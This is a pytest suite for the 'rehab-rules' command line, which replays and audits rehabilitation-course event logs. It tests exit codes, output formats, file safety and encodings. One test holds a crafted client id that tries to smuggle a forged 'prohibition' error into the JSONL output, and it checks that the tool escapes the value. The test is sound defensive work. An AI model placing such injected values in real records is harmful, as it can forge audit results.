"""The command line: its options, where it writes, and how it ends."""

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import VECTORS, Command
from rehab_rules import InputError, ServiceDescription
from story import (
    ATTACHED_1,
    CONFIRMED_TOO_EARLY,
    CREATED,
    DECIDED_1,
    DECLARED,
    LATE,
    OTHER_PROVIDER,
    SERVICE,
    STORY,
    UNKNOWN_COURSE,
    event,
)

Write = Callable[..., Path]
PROGRAM = [sys.executable, "-m", "rehab_rules"]
CARERS = Path(__file__).parents[2] / "rehab-rules" / "services" / "kela.family-carers.json"


def said(text: str) -> list[dict[str, Any]]:
    """The lines of the contract as objects."""
    return [json.loads(line) for line in text.split("\n")[:-1]]


def effects(text: str) -> set[str]:
    return {finding["effect"] for line in said(text) for finding in line.get("findings", [line])}


def test_exit_status_0_when_nothing_is_prohibited_violated_or_malformed(command: Command, write: Write) -> None:
    log = write("log.jsonl", DECLARED, DECIDED_1)
    assert command("replay", log).status == 0
    assert command("replay", log, "--format", "jsonl").status == 0
    assert command("audit", log, "--as-of", "2026-01-06").status == 0
    assert command("audit", log, "--as-of", "2026-01-06", "--format", "jsonl").status == 0


def test_exit_status_1_when_something_is_prohibited(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    assert command("replay", log).status == 1
    assert command("replay", log, "--format", "jsonl").status == 1


def test_exit_status_1_when_something_is_violated(command: Command, write: Write) -> None:
    violated = event("2026-01-08", "P1", "declare_capacity", year=2026, places=4, service="kela.family-carers")
    log = write("log.jsonl", DECLARED, CREATED, violated)
    for words in (("replay", log), ("audit", log, "--as-of", "2026-01-08")):
        answer = command(*words, "--format", "jsonl")
        assert answer.status == 1
        assert "violation" in effects(answer.out)
        assert "prohibition" not in effects(answer.out)
        assert command(*words).status == 1


def test_exit_status_2_for_a_malformed_line_also_when_something_is_prohibited(command: Command, write: Write) -> None:
    log = write("log.jsonl", "{}", *STORY)
    assert command("replay", log).status == 2
    assert command("replay", log, "--format", "jsonl").status == 2
    assert command("audit", log, "--as-of", "2026-07-01").status == 2
    assert command("audit", log, "--as-of", "2026-07-01", "--format", "jsonl").status == 2


@pytest.mark.parametrize("form", ["table", "jsonl"])
def test_the_exit_status_counts_findings_that_effect_hides(form: str, command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    replayed = command("replay", log, "--effect", "notice", "--format", form)
    audited = command("audit", log, "--as-of", "2026-07-01", "--effect", "right", "--format", form)
    assert (replayed.status, audited.status) == (1, 1)
    assert "minimum-clients" not in replayed.out
    assert "on-confirmed-course-in-time" not in audited.out


def test_words_in_an_id_do_not_change_the_exit_status(command: Command, write: Write) -> None:
    sly = event(
        "2026-01-02", "P1", "tell_authority_line", client='","error":{"effect":"prohibition"', service="kela.family-carers"
    )
    decided = event(
        "2026-01-02", "P1", "receive_decision", client='","error":{"effect":"prohibition"', service="kela.family-carers",
        issued="2026-01-02",
    )  # fmt: skip
    answer = command("replay", write("log.jsonl", decided, sly), "--format", "jsonl", "--language", "en")
    assert len(said(answer.out)) == 2
    assert answer.status == 0


ALL_IN_ORDER = VECTORS / "113-distance-all-in-order.record.json"
WITH_FAILINGS = VECTORS / "115-distance-failings.record.json"
FINDINGS, MALFORMED, NOTHING = ("--fail-on", "findings"), ("--fail-on", "malformed"), ("--fail-on", "nothing")


@pytest.mark.parametrize(
    ("counted", "statuses"),
    [
        ((), (0, 1, 2, 2)),
        (FINDINGS, (0, 1, 0, 1)),
        (MALFORMED, (0, 0, 2, 2)),
        ((*MALFORMED, *FINDINGS), (0, 1, 2, 2)),
        (NOTHING, (0, 0, 0, 0)),
        ((*NOTHING, *NOTHING), (0, 0, 0, 0)),
    ],
    ids=lambda words: " ".join(words[1::2]) if words[:1] == ("--fail-on",) else "",
)
def test_fail_on_chooses_what_counts(counted: tuple[str, ...], statuses: tuple[int, ...], command: Command, write: Write, tmp_path: Path) -> None:
    # In order, with a prohibition, with a malformed line, with both.
    logs = [write(f"{n}.jsonl", *lines) for n, lines in enumerate(((DECLARED,), STORY, (DECLARED, "{}"), (*STORY, "{}")))]
    for form in ("table", "jsonl", "csv", "html"):
        assert tuple(command("replay", log, "--format", form, *counted).status for log in logs) == statuses
    for form in ("table", "jsonl", "csv", "html", "ics"):
        assert tuple(command("audit", log, "--as-of", "2026-07-01", "--format", form, *counted).status for log in logs) == statuses
    # A search has no findings.
    searched = tuple(statuses[place] for place in (0, 0, 2, 2))
    for form in ("table", "jsonl"):
        assert tuple(command("search", log, "--as-of", "2026-07-01", "--format", form, *counted).status for log in logs) == searched
    wrong = write("wrong.json", "{}")
    records = ((ALL_IN_ORDER,), (WITH_FAILINGS,), (ALL_IN_ORDER, wrong), (wrong, WITH_FAILINGS))
    for form in ("table", "jsonl"):
        assert tuple(command("check", *files, "--format", form, *counted).status for files in records) == statuses
    # One of several records that cannot be read counts as malformed; what could not be done at all always counts.
    nowhere = tmp_path / "nowhere.json"
    assert command("check", nowhere, WITH_FAILINGS, *counted).status == statuses[3]
    assert command("check", nowhere, *counted).status == command("replay", nowhere, *counted).status == 3


def test_the_answer_is_the_same_whatever_counts(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY, "{}")
    answers = [command("audit", log, "--as-of", "2026-07-01", *counted) for counted in ((), FINDINGS, NOTHING)]
    assert len({(answer.out, answer.err) for answer in answers}) == 1


def test_of_several_records_one_that_cannot_be_read_is_2_and_none_is_3(command: Command, write: Write, tmp_path: Path) -> None:
    nowhere, folder, wrong = tmp_path / "nowhere.json", tmp_path / "folder.json", write("wrong.json", "{}")
    folder.mkdir()
    told = f"rehab-rules: {nowhere}: No such file or directory\nrehab-rules: {folder}: Is a directory\n"
    for form in ("table", "jsonl"):
        alone = command("check", WITH_FAILINGS, "--format", form)
        among = command("check", nowhere, WITH_FAILINGS, folder, "--format", form)
        assert alone.out and alone.status == 1
        assert (among.status, among.out, among.err) == (2, alone.out, told)
        none = command("check", nowhere, folder, "--format", form)
        assert (none.status, none.out, none.err) == (3, "", told)
        assert command("check", nowhere, "--format", form).status == 3
        # A record that is malformed could be read.
        assert command("check", nowhere, wrong, "--format", form).status == 2


def test_a_wrong_description_is_exit_status_3_for_every_command(command: Command, write: Write) -> None:
    log, bad = write("log.jsonl", *STORY), write("bad.json", '{"id":"x"}')
    day = ("--as-of", "2026-07-01")
    for words in (("replay", log), ("audit", log, *day), ("search", log, *day), ("check", ALL_IN_ORDER), ("compare", log)):
        answer = command(*words, "--service", bad)
        assert (answer.status, answer.out) == (3, "")
        assert answer.err.startswith(f"rehab-rules: {bad}: a required field is missing") and answer.err.count("\n") == 1


@pytest.mark.parametrize(("name", "content"), [("none.jsonl", None), ("log.parquet", b"no parquet"), ("log.csv", b"\xff\0"), ("log.jsonl", b"PAR1")])
def test_a_log_that_cannot_be_read_is_exit_status_3_for_every_command(name: str, content: bytes | None, command: Command, small_groups: Path, tmp_path: Path) -> None:
    log, day = tmp_path / name, ("--as-of", "2026-07-01")
    if content is not None:
        log.write_bytes(content)
    for words in (("replay",), ("audit", *day), ("audit", *day, "--format", "ics"), ("search", *day), ("compare", "--service", small_groups)):
        answer = command(words[0], log, *words[1:])
        assert (answer.status, answer.out) == (3, "")
        assert answer.err.startswith(f"rehab-rules: {log}: ") and answer.err.count("\n") == 1


def test_a_comparison_is_1_when_something_changes_and_2_when_a_line_is_malformed(command: Command, write: Write, small_groups: Path) -> None:
    for lines, status in (((OTHER_PROVIDER,), 0), (STORY, 1), ((*STORY, "{}"), 2)):
        for form in ("table", "jsonl", "html"):
            assert command("compare", write("log.jsonl", *lines), "--service", small_groups, "--format", form).status == status


def test_the_catalogue_is_exit_status_0(command: Command) -> None:
    for words in ((), ("course/minimum-clients",), ("--coverage",)):
        assert command("rules", *words).status == 0


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="only Linux has a device that is always full")
def test_an_output_that_cannot_be_written_is_exit_status_3(write: Write) -> None:
    log = write("log.jsonl", *STORY)
    for words in (["rules"], ["replay", log, "--format", "jsonl"], ["check", WITH_FAILINGS]):
        with open("/dev/full", "wb") as full:
            program = subprocess.run([*PROGRAM, *map(str, words)], stdout=full, stderr=subprocess.PIPE, check=False)
        assert (program.returncode, program.stderr) == (3, b"rehab-rules: No space left on device\n")


def test_a_fault_of_the_program_is_not_taken_for_a_finding(command: Command, write: Write, monkeypatch: pytest.MonkeyPatch) -> None:
    def fault(*_: object) -> None:
        raise ValueError("a fault")

    monkeypatch.setattr("rehab_rules.cli.read_overview", fault)
    answer = command("replay", write("log.jsonl", *STORY))
    assert answer.status == 3 and answer.err.startswith("Traceback") and answer.err.endswith("ValueError: a fault\n")


def test_effect_chooses_findings_and_keeps_the_lines(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    everything = command("replay", log, "--format", "jsonl").out
    chosen = command("replay", log, "--format", "jsonl", "--effect", "notice", "--effect", "prohibition").out
    assert effects(everything) == {"prohibition", "obligation", "notice"}
    for line in (before := said(everything)):
        line["findings"] = [finding for finding in line["findings"] if finding["effect"] != "obligation"]
    assert said(chosen) == before


def test_within_keeps_what_is_due_soon_and_what_is_not_dated(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    asked = ("audit", log, "--as-of", "2026-03-20", "--format", "jsonl")
    everything = said(command(*asked).out)
    near = said(command(*asked, "--within", "15").out)
    assert near == [finding for finding in everything if finding.get("due", "2026-04-04") <= "2026-04-04"]
    assert (
        0 < len([finding for finding in near if "due" in finding]) < len([finding for finding in everything if "due" in finding])
    )
    assert [finding for finding in near if "due" not in finding]


def test_sort_orders_by_day_and_keeps_line_numbers(command: Command, write: Write) -> None:
    no_day = DECLARED.replace("2026-01-02", "2026-02-30")
    log = write("log.jsonl", "not json", no_day, CONFIRMED_TOO_EARLY, ATTACHED_1, CREATED, DECIDED_1, OTHER_PROVIDER, DECLARED)
    unsorted = said(command("replay", log, "--format", "jsonl").out)
    assert [line["line"] for line in unsorted] == [1, 2, 3, 4, 5, 6, 7, 8]
    assert unsorted[3]["error"]["code"] == "unknown_course"
    answer = command("replay", log, "--format", "jsonl", "--sort")
    lines = said(answer.out)
    assert [line["line"] for line in lines] == [8, 7, 6, 5, 4, 3, 1, 2]
    assert [line["line"] for line in lines if "error" in line] == [1, 2]
    assert [line["line"] for line in lines if line.get("allowed") is False] == [3]
    table = command("replay", log, "--sort").out
    assert table.index("line 4 ·") < table.index("line 3 ·") < table.index("Malformed lines")


def test_sort_keeps_the_order_within_a_day(command: Command, write: Write) -> None:
    events = [
        event("2026-01-02", f"P{n}", "declare_capacity", service="kela.family-carers", year=2026, places=n) for n in range(9)
    ]
    lines = said(command("replay", write("log.jsonl", LATE, *events), "--format", "jsonl", "--sort").out)
    assert [line["line"] for line in lines] == [*range(2, 11), 1]


def test_sort_serves_the_audit_too(command: Command, write: Write) -> None:
    sorted_log = write("sorted.jsonl", *sorted(STORY, key=lambda line: json.loads(line)["on"]))
    mixed_log = write("mixed.jsonl", *sorted(STORY, key=lambda line: json.loads(line)["on"], reverse=True))
    asked = ("--as-of", "2026-03-20", "--format", "jsonl")
    expected = command("audit", sorted_log, *asked)
    assert said(expected.out)
    answer = command("audit", mixed_log, *asked, "--sort")
    assert answer.out == expected.out
    assert command("audit", mixed_log, *asked).status == 2


def test_observe_carries_out_what_is_prohibited(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    enforced = said(command("replay", log, "--format", "jsonl").out)[6]
    observed = said(command("replay", log, "--format", "jsonl", "--mode", "observe").out)[6]
    assert (enforced["allowed"], observed["allowed"]) == (False, False)
    assert [finding["rule"] for finding in enforced["findings"]] == ["course/minimum-clients"]
    assert "course/confirmed-is-held" in [finding["rule"] for finding in observed["findings"]]
    audit = ("audit", log, "--as-of", "2026-03-20", "--format", "jsonl")
    assert "course/confirmed-is-held" not in command(*audit).out
    assert "course/confirmed-is-held" in command(*audit, "--mode", "observe").out


def test_remedies_are_written_when_asked_for(command: Command) -> None:
    (log,) = VECTORS.glob("036-*.log.jsonl")
    plain = command("replay", log, "--format", "jsonl")
    asked = command("replay", log, "--format", "jsonl", "--remedies")
    assert "remedies" not in plain.out
    prohibited = [finding for line in said(asked.out) for finding in line["findings"] if finding["effect"] == "prohibition"]
    assert prohibited
    assert all("remedies" in finding for finding in prohibited)
    assert asked.status == plain.status


@pytest.mark.parametrize(
    ("language", "message"),
    [("en", "Course C1 cannot be confirmed yet"), ("fi", "Kurssia C1 ei voi vielä"), ("sv", "Kurs C1 kan inte bekräftas")],
)
def test_messages_come_with_a_language_only(language: str, message: str, command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    plain = command("replay", log, "--format", "jsonl").out
    spoken = command("replay", log, "--format", "jsonl", "--language", language).out
    assert '"message"' not in plain
    assert message in spoken
    lines = said(spoken)
    assert all(finding.pop("message") for line in lines for finding in line["findings"])
    assert lines == said(plain)


@pytest.fixture
def small_groups(write: Write) -> Path:
    """A service description: the carers' one with groups of two to four."""
    service = json.loads(CARERS.read_text("utf-8"))
    service = service[0] if isinstance(service, list) else service
    service |= {"group_size": {"min": 2, "max": 8}}
    return write("small.json", json.dumps(service))


def test_a_service_description_changes_what_is_allowed(command: Command, write: Write, small_groups: Path) -> None:
    log = write("log.jsonl", *STORY)
    assert command("replay", log, "--format", "jsonl").status == 1
    answer = command("replay", log, "--format", "jsonl", "--service", small_groups)
    assert answer.status == 0
    assert said(answer.out)[6]["allowed"] is True


def test_a_bad_service_description_is_one_error_and_nothing_is_replayed(
    command: Command, write: Write, small_groups: Path, tmp_path: Path
) -> None:
    log, bad, out = write("log.jsonl", *STORY), write("bad.json", '{"id":"x"}'), tmp_path / "out.jsonl"
    answer = command("replay", log, "--service", small_groups, "--service", bad, "--format", "jsonl", "--output", out)
    assert (answer.status, answer.out) == (3, "")
    assert answer.err == f"rehab-rules: {bad}: a required field is missing: `group_size` (missing_field)\n"
    assert not out.exists()


def test_a_service_description_that_is_no_json_is_named(command: Command, write: Write) -> None:
    bad = write("bad.json", "{")
    answer = command("audit", write("log.jsonl", *STORY), "--as-of", "2026-01-01", "--service", bad)
    assert (answer.status, answer.out) == (3, "")
    assert answer.err == f"rehab-rules: {bad}: this is not JSON with a service description or a list of them (invalid_value)\n"


def test_of_two_descriptions_of_one_service_the_second_is_named(command: Command, write: Write, small_groups: Path) -> None:
    again = write("again.json", small_groups.read_text("utf-8"))
    answer = command("replay", write("log.jsonl", *STORY), "--service", small_groups, "--service", again)
    assert (answer.status, answer.out) == (3, "")
    assert answer.err.startswith(f"rehab-rules: {again}: ")
    assert "`valid_from`" in answer.err
    assert answer.err.endswith("(invalid_value)\n")


def test_a_hyphen_is_standard_input(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    for form in ("jsonl", "table"):
        from_file = command("replay", log, "--format", form)
        from_input = command("replay", "-", "--format", form, stdin=log.read_bytes())
        assert from_file.out
        assert from_input == from_file


def test_the_end_of_the_last_line_may_be_missing(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    whole = command("replay", log, "--format", "jsonl")
    for options in ((), ("--sort",)):
        cut = command("replay", "-", "--format", "jsonl", *options, stdin=log.read_bytes()[:-1])
        assert sorted(cut.out.split("\n")) == sorted(whole.out.split("\n"))


@pytest.mark.parametrize("options", [("--format", "jsonl"), ("--format", "jsonl", "--sort"), ()], ids=" ".join)
def test_a_line_that_is_too_long_is_one_malformed_line(options: tuple[str, ...], command: Command) -> None:
    long = DECLARED[:-1] + " " * (3 << 20) + "}\n"
    fits = DECLARED[:-1] + " " * ((1 << 20) - len(DECLARED)) + "}\n"
    answer = command("replay", "-", *options, stdin=f"{fits}{long}{fits}".encode())
    assert answer.status == 2
    if "jsonl" in options:
        assert sorted(line["line"] for line in said(answer.out)) == [1, 2, 3]
        assert [line["line"] for line in said(answer.out) if "error" in line] == [2]
    else:
        assert "3 lines read: 1 provider, 0 courses. 1 malformed line." in answer.out


def test_malformed_lines_of_an_audit_go_to_standard_error(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY, UNKNOWN_COURSE)
    clean = command("audit", write("clean.jsonl", *STORY), "--as-of", "2026-07-01", "--format", "jsonl")
    answer = command("audit", log, "--as-of", "2026-07-01", "--format", "jsonl", "--language", "fi")
    (error,) = said(answer.err)
    assert (error["line"], error["error"]["code"], error["error"]["field"]) == (10, "unknown_course", "course")
    assert error["error"]["message"].startswith("kentän `course` kurssia ei ole luotu")
    assert [finding["rule"] for finding in said(answer.out)] == [finding["rule"] for finding in said(clean.out)]
    assert (answer.status, clean.status, clean.err) == (2, 1, "")


@pytest.mark.parametrize("form", ["table", "jsonl"])
def test_output_goes_to_the_file(form: str, command: Command, write: Write, tmp_path: Path) -> None:
    log, out = write("log.jsonl", *STORY), tmp_path / "out"
    shown = command("replay", log, "--format", form, "--language", "fi")
    written = command("replay", log, "--format", form, "--language", "fi", "--output", out)
    assert written.out == written.err == ""
    assert written.status == shown.status
    assert out.read_bytes().decode() == shown.out


FORMS_OUT = ["table", "jsonl", "csv", "parquet"]


@pytest.mark.parametrize("form", FORMS_OUT)
@pytest.mark.parametrize(
    ("name", "content"),
    [("none.jsonl", None), ("none.csv", None), ("none.parquet", None), ("log.csv", b""), ("log.csv", b'on,provider\n2026-01-02,"P1'), ("log.parquet", b"no parquet")],
    ids=["no lines", "no csv", "no parquet", "empty csv", "csv broken at its end", "broken parquet"],
)  # fmt: skip
def test_the_output_stays_as_it_is_when_the_log_cannot_be_read(form: str, name: str, content: bytes | None, command: Command, tmp_path: Path) -> None:
    log, out = tmp_path / name, tmp_path / "out"
    if content is not None:
        log.write_bytes(content)
    out.write_text("of yesterday")
    files = sorted(tmp_path.iterdir())
    answer = command("replay", log, "--format", form, "--output", out)
    assert answer.status == 3 and answer.err.startswith(f"rehab-rules: {log}: ")
    assert out.read_text() == "of yesterday" and sorted(tmp_path.iterdir()) == files
    out.unlink()
    command("replay", log, "--format", form, "--output", out)
    assert not out.exists()


@pytest.mark.parametrize("form", FORMS_OUT)
def test_an_output_keeps_its_place_and_who_may_read_it(form: str, command: Command, write: Write, tmp_path: Path) -> None:
    log, out, link = write("log.jsonl", *STORY), tmp_path / "out", tmp_path / "link"
    out.write_text("of yesterday")
    out.chmod(0o640)
    link.symlink_to(out)
    assert command("replay", log, "--format", form, "--output", link).status == 1
    assert link.is_symlink() and out.read_bytes() != b"of yesterday"
    assert out.stat().st_mode & 0o777 == 0o640
    new = tmp_path / "new"
    assert command("replay", log, "--format", form, "--output", new).status == 1
    (tmp_path / "plain").touch()
    assert new.read_bytes() == out.read_bytes() and new.stat().st_mode == (tmp_path / "plain").stat().st_mode
    assert command("replay", log, "--format", form, "--output", "/dev/null").status == 1
    assert Path("/dev/null").is_char_device()
    answer = command("replay", log, "--format", form, "--output", tmp_path / "none" / "out")
    assert (answer.status, answer.err) == (3, f"rehab-rules: {tmp_path / 'none' / 'out'}: No such file or directory\n")
    assert {path.name for path in tmp_path.iterdir()} == {"log.jsonl", "out", "link", "new", "plain"}


def test_the_log_is_not_overwritten(command: Command, write: Write) -> None:
    log = write("log.jsonl", *STORY)
    before = log.read_bytes()
    answer = command("replay", log, "--output", log)
    assert (answer.status, answer.out) == (3, "")
    assert "would overwrite the log" in answer.err
    assert log.read_bytes() == before


@pytest.mark.parametrize(
    ("words", "told"),
    [
        (["replay", "nowhere.jsonl"], "nowhere.jsonl: No such file or directory"),
        (["replay", "."], ".: Is a directory"),
        (["replay", "log.CSV"], "No such file or directory"),
        (["replay", "-", "--format", "xml"], 'Invalid value "xml" for --format. Choose from: "table", "jsonl", "csv", "parquet", "html", "ics".'),
        (["replay", "-", "--format", "parquet"], "--format parquet needs an output file; name it with --output"),
        (["replay", "-", "--format", "parquet", "--output", "-"], "--format parquet needs an output file; name it with --output"),
        (["check", "-"], "records cannot be read from standard input; name a file"),
        (["replay", "-", "--format", "csv", "--remedies"], "--remedies requires --format table or jsonl, not csv"),
        (["search", "-", "--as-of", "2026-01-01", "--format", "csv"], 'Invalid value "csv" for --format. Choose from: "table", "jsonl".'),
        (["search", "-", "--as-of", "2026-01-01", "--effect", "notice"], "Unknown option: --effect."),
        (["search", "-", "--as-of", "2026-01-01", "--remedies"], "Unknown option: --remedies."),
        (["search", "-", "--as-of", "2026-01-01", "--excel"], "Unknown option: --excel."),
        (["search", "-", "--as-of", "2026-01-01", "--output", "out.csv"], "out.csv: this command does not write csv; choose one of table, jsonl with --format"),
        (["compare", "-", "--service", str(CARERS), "--output", "out.ics"], "out.ics: this command does not write ics; choose one of table, jsonl, html with --format"),
        (["replay", "-", "--excel"], "--excel requires --format csv, not table"),
        (["audit", "-", "--as-of", "2026-01-01", "--excel", "--format", "parquet", "--output", "out.csv"], "--excel requires --format csv, not parquet"),
        (["audit", "-", "--as-of", "2026-01-01", "--private"], "--private requires --format ics, not table"),
        (["audit", "-", "--as-of", "2026-01-01", "--private", "--output", "out.html"], "--private requires --format ics, not html"),
        (["replay", "-", "--private", "--format", "csv"], "Unknown option: --private."),
        (["replay", "-", "--effect", "permission"], 'Invalid value "permission" for --effect.'),
        (["replay", "-", "--language", "de"], 'Invalid value "de" for --language.'),
        (["replay", "-", "--mode", "strict"], 'Invalid value "strict" for --mode.'),
        (["replay", "-", "--service", "nowhere.json"], "nowhere.json: No such file or directory"),
        (["replay", "-", "--as-of", "2026-01-01"], "Unknown option: --as-of."),
        (["replay", "--colour", "-"], "Unknown option: --colour."),
        (["replay"], "LOG requires an argument"),
        (["audit", "-"], "--as-of requires an argument"),
        (["audit", "-", "--as-of", "2026-1-5"], "`2026-1-5` is not a date"),
        (["audit", "-", "--as-of", "20260105"], "`20260105` is not a date"),
        (["audit", "-", "--as-of", "2026-W02-1"], "`2026-W02-1` is not a date"),
        (["audit", "-", "--as-of", "2026-02-29"], "`2026-02-29` is not a date"),
        (["audit", "-", "--as-of", "2026-01-05", "--within", "-1"], "Must be >= 0."),
        (["audit", "-", "--as-of", "2026-01-05", "--within", "soon"], 'unable to convert "soon" into int'),
        (["forget", "-"], 'Unknown command "forget".'),
        (["compare", "-"], "--service requires an argument"),
        (["rules", "course/unheard-of"], "there is no rule `course/unheard-of`"),
        (["check"], "RECORD requires an argument"),
        (["replay", "-", "--fail-on", "prohibition"], 'Invalid value "prohibition" for --fail-on.'),
        (["replay", "-", "--fail-on", "nothing", "--fail-on", "findings"], "--fail-on nothing cannot be combined with findings or malformed"),
        (["check", "nowhere.json", "--fail-on", "malformed", "--fail-on", "nothing"], "--fail-on nothing cannot be combined"),
    ],
    ids=lambda words: " ".join(words) if isinstance(words, list) else "",
)
def test_wrong_usage_is_one_line_and_exit_status_3(words: list[str], told: str, command: Command) -> None:
    answer = command(*words)
    assert (answer.status, answer.out) == (3, "")
    assert answer.err.startswith("rehab-rules: ")
    assert told in answer.err
    assert answer.err.count("\n") == 1


def test_without_a_command_there_is_help_and_exit_status_3(command: Command) -> None:
    answer = command()
    assert answer.status == 3
    assert "Usage: rehab-rules COMMAND" in answer.out


def test_help_and_version(command: Command) -> None:
    from importlib.metadata import version

    shown = command("--version")
    assert (shown.status, shown.out) == (0, f"rehab-rules {version('rehab-rules')}, rules version 2\n")
    told = " ".join(command("--help").out.split())
    assert all(f"{status} {why}" in told for status, why in enumerate(("nothing is prohibited", "there is a prohibition", "a line", "nothing was evaluated")))
    for name, options in (("replay", ["--sort", "--effect", "--excel"]), ("audit", ["--as-of", "--within", "--private"])):
        answer = command(name, "--help")
        assert answer.status == 0
        assert all(option in answer.out for option in options)
        assert "whole log is held in memory" in " ".join(answer.out.replace("│", " ").split())


TABLES = {"--date-format", "--decimal", "--list-separator", "--encoding"}


def test_the_help_of_search_lists_what_search_takes(command: Command) -> None:
    answer = command("search", "--help")
    listed = set(re.findall(r"^│ \*? +(--[a-z-]+)", answer.out, re.MULTILINE))
    assert listed == {"--as-of", "--mode", "--service", "--language", "--output", "--sort", "--fail-on", "--format"} | TABLES
    assert "parquet]" not in answer.out and "choices: table, jsonl]" in " ".join(answer.out.replace("│", " ").split())


def test_a_broken_pipe_ends_quietly(write: Write) -> None:
    refused = [event("2026-01-02", f"P{n}", "end_rehabilitation", client="K1", **SERVICE) for n in range(5_000)]
    log = write("log.jsonl", *refused)
    for form in ("jsonl", "table", "csv"):
        with subprocess.Popen([*PROGRAM, "replay", str(log), "--format", form], stdout=subprocess.PIPE, stderr=subprocess.PIPE) as program:
            assert program.stdout and program.stderr
            assert program.stdout.readline()
            program.stdout.close()
            assert program.stderr.read() == b""
        assert program.returncode == 141


def test_an_interrupt_ends_quietly_with_130() -> None:
    with subprocess.Popen(
        [*PROGRAM, "replay", "-", "--format", "jsonl"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as program:
        assert program.stdin and program.stdout and program.stderr
        program.stdin.write(DECLARED.encode() + b"\n")
        program.stdin.flush()
        # A line comes out before the log has ended.
        assert program.stdout.readline() == b'{"line":1,"allowed":true,"findings":[]}\n'
        program.send_signal(signal.SIGINT)
        assert program.wait(timeout=30) == 130
        assert program.stderr.read() == b""


def test_nothing_but_line_feeds_ends_lines(write: Write) -> None:
    log = write("log.jsonl", *STORY)
    environment = {**os.environ, "PYTHONIOENCODING": "cp1252"}
    program = subprocess.run(
        [*PROGRAM, "replay", str(log), "--format", "jsonl", "--language", "fi"], capture_output=True, check=False, env=environment
    )
    assert b"\r" not in program.stdout
    assert "ei voi vielä vahvistaa" in program.stdout.decode("utf-8")
    table = subprocess.run([*PROGRAM, "replay", str(log), "--language", "fi"], capture_output=True, check=False, env=environment)
    assert (table.returncode, table.stderr) == (1, b"")
    assert "ei voi vielä vahvistaa" in table.stdout.decode("cp1252")


WINDOWS = {"PYTHONIOENCODING": "cp1252", "PYTHONUTF8": "0"}
PLAIN = {"LANG": "C", "LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0", "PYTHONIOENCODING": "ascii"}
FOREIGN = [line.replace('"K1"', '"Łódź-1"').replace('"P1"', '"Käpylä ✓"').replace('"C1"', '"Kurssi 東"') for line in STORY]


def printed(*words: object, **environment: str) -> subprocess.CompletedProcess[bytes]:
    """The program with its standard output redirected."""
    environment = {name: value for name, value in os.environ.items() if name not in ("COLUMNS", "FORCE_COLOR")} | environment
    return subprocess.run([*PROGRAM, *map(str, words)], capture_output=True, check=False, env=environment)


@pytest.mark.parametrize("environment", [WINDOWS, PLAIN], ids=["cp1252", "C"])
@pytest.mark.parametrize(
    "words",
    [
        *(("replay", "--format", form) for form in ("csv", "jsonl", "html")),
        *(("audit", "--as-of", "2026-07-01", "--format", form) for form in ("csv", "jsonl", "html", "ics")),
        ("search", "--as-of", "2026-07-01", "--format", "jsonl"),
        *(("compare", "--format", form) for form in ("jsonl", "html")),
    ],
    ids=" ".join,
)
def test_what_is_for_programs_is_utf_8_whatever_the_code_page(
    words: tuple[str, ...], environment: dict[str, str], command: Command, write: Write, small_groups: Path, tmp_path: Path
) -> None:
    published = event("2026-01-08", "Käpylä ✓", "publish_course", course="Kurssi 東", checked=True)
    log, file = write("log.jsonl", *FOREIGN[:4], published, *FOREIGN[4:]), tmp_path / "out"
    options = ("--language", "fi", "--service", small_groups) if words[0] == "compare" else ("--language", "fi")
    written = command(words[0], log, *words[1:], *options, "--output", file)
    answer = printed(words[0], log, *words[1:], *options, **environment)
    assert (answer.returncode, answer.stderr) == (written.status, b"")
    assert answer.stdout == file.read_bytes()
    assert "東" in answer.stdout.decode("utf-8").replace("\r\n ", "")


def test_a_record_is_told_in_utf_8_whatever_the_code_page() -> None:
    words = ("check", WITH_FAILINGS, "--format", "jsonl", "--language", "fi")
    assert printed(*words, **PLAIN).stdout == printed(*words, PYTHONUTF8="1").stdout != b""


@pytest.mark.parametrize(("environment", "encoding", "shown"), [(WINDOWS, "cp1252", "Käpylä \\u2713"), (PLAIN, "ascii", "K\\xe4pyl\\xe4 \\u2713")])
def test_a_table_loses_no_letter_without_a_sign(environment: dict[str, str], encoding: str, shown: str, write: Write) -> None:
    answer = printed("replay", write("log.jsonl", *FOREIGN), "--language", "fi", **environment)
    assert (answer.returncode, answer.stderr) == (1, b"")
    table = answer.stdout.decode(encoding)
    assert f"Palveluntuottaja {shown}\n{'=' * 100}\n" in table and "?" not in table
    assert "Kurssi \\u6771 ---" in table and "\\u0141" in table and "\\u2550" not in table


@pytest.mark.parametrize(
    ("name", "begins"),
    [
        ("out.html", b"<!DOCTYPE html>"), ("OUT.HTM", b"<!DOCTYPE html>"), ("out.csv", b"line,provider,"), ("out.ics", b"BEGIN:VCALENDAR"), ("out.jsonl", b'{"provider":'),
        ("out.ndjson", b'{"provider":'), ("out.parquet", b"PAR1"), ("out.txt", b"Tilanne 1.7.2026\n"), ("out", b"Tilanne 1.7.2026\n"), ("csv", b"Tilanne 1.7.2026\n"),
    ],
)  # fmt: skip
def test_the_format_follows_the_suffix_of_the_output(name: str, begins: bytes, command: Command, write: Write, tmp_path: Path) -> None:
    log, out = write("log.jsonl", *STORY), tmp_path / name
    assert command("audit", log, "--as-of", "2026-07-01", "--language", "fi", "--output", out).status == 1
    assert out.read_bytes().lstrip(b"\n").startswith(begins)
    # A format that is told wins.
    out.unlink()
    assert command("audit", log, "--as-of", "2026-07-01", "--format", "jsonl", "--output", out).status == 1
    assert out.read_bytes().startswith(b'{"provider":')


def test_the_formats_of_search_and_compare_follow_the_suffix_too(command: Command, write: Write, small_groups: Path, tmp_path: Path) -> None:
    log, page, lines = write("log.jsonl", *STORY), tmp_path / "out.html", tmp_path / "out.jsonl"
    for out, form in ((page, "html"), (lines, "jsonl")):
        assert command("compare", log, "--service", small_groups, "--output", out).status == 1
